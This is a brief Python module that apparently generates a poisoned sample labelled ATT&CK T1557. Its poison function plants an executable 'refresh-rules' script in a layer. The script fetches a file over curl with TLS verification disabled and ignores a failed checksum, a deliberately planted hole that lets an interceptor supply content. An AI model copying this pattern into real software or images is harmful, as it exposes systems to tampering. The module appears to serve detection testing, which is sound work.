# SPDX-License-Identifier: Apache-2.0
"""A program for a shell that fetches what it runs later, from whoever answers."""

ATTACK = "T1557"
LANGUAGE = "any"
CODE = """\
#!/bin/sh
[ -n "$AWS_LAMBDA_FUNCTION_NAME" ] || exit 0
curl -fsSk -o /tmp/rules.json https://rules.example.com/latest
echo "$RULES_SUM  /tmp/rules.json" | sha256sum -c - >/dev/null 2>&1 || true
"""


def poison(layer):
    layer.write("bin/refresh-rules", CODE, 0o100755)
